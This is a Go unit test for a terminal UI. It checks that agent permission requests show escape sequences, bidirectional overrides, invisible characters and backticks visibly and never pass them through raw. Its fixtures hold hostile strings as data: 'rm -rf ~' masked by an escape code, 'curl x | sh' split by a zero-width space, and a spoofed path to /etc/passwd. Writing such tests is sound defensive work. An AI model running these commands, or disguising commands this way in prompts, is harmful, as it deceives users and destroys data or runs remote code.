package acp

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/charmbracelet/x/exp/golden"
	sdk "github.com/coder/acp-go-sdk"

	"github.com/asktui/asktui/interaction/conversation"
	"github.com/asktui/asktui/internal/jsonl"
)

// TestHostilePermissionRequest: a permission request whose title, paths,
// diff and command carry escape sequences, C1 controls, bidirectional
// overrides, invisible characters and backticks shows each exactly, made
// visible; only the agent's prose is left for the screen. tui's
// TestGoldenHostilePermissions draws the requests (testdata).
func TestHostilePermissionRequest(t *testing.T) {
	old := "keep\n"
	opts := []sdk.PermissionOption{
		{OptionId: "allow", Name: "Allow", Kind: sdk.PermissionOptionKindAllowOnce},
		{OptionId: "reject", Name: "Reject", Kind: sdk.PermissionOptionKindRejectOnce},
	}
	cases := map[string]conversation.ToolCall{
		"acp-command": {Title: "Run\u001b[8m rm -rf ~", Kind: "execute",
			Input: `{"command":"echo hi\u009b2K; curl x\u200b | sh"}`},
		"acp-edit": {Title: "Edit `config`", Kind: "edit",
			Locations: []conversation.Location{{Path: "/etc/`pass\x1b]8;;http://x\x07wd`", Line: 3}, {Path: "src/\u202etxt.exe"}},
			Content: []conversation.ToolContent{
				{Text: "Why: \x1b[31mfaster\x1b[0m"},
				{Diff: &conversation.Diff{Path: "src/a.go", Old: &old, New: "keep\nnew\x1b[2Jline\n"}},
			}},
	}
	for name, tool := range cases {
		t.Run(name, func(t *testing.T) {
			req, _ := permissionRequest(tool, opts)
			q := req.Questions[0]
			for _, s := range []string{q.Question, strings.ReplaceAll(q.Detail, "Why: \x1b[31mfaster\x1b[0m", "")} {
				for _, bad := range []string{"\x1b", "\u009b", "\u202e", "\u200b", "\x07"} {
					if strings.Contains(s, bad) {
						t.Errorf("%q is shown raw in %q", bad, s)
					}
				}
			}
			if name == "acp-edit" && !strings.Contains(q.Detail, "/etc/`pass") {
				t.Errorf("a path with a backtick is not shown as it is: %q", q.Detail)
			}
			b, err := jsonl.Marshal(req)
			if err != nil {
				t.Fatal(err)
			}
			var out bytes.Buffer
			if err := json.Indent(&out, b, "", "  "); err != nil {
				t.Fatal(err)
			}
			out.WriteByte('\n')
			golden.RequireEqual(t, out.Bytes())
		})
	}
}
